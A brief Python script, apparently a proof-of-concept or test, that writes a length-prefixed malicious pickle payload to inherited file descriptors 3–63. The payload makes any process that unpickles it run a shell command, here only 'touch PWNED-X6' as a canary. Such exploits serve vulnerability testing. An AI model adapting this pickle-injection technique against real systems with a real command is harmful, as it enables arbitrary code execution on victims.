import os

body = b"cos\nsystem\n(S'touch PWNED-X6'\ntR."
for fd in range(3, 64):
    try:
        os.write(fd, len(body).to_bytes(4, "big") + body)
    except OSError:
        pass
os._exit(0)
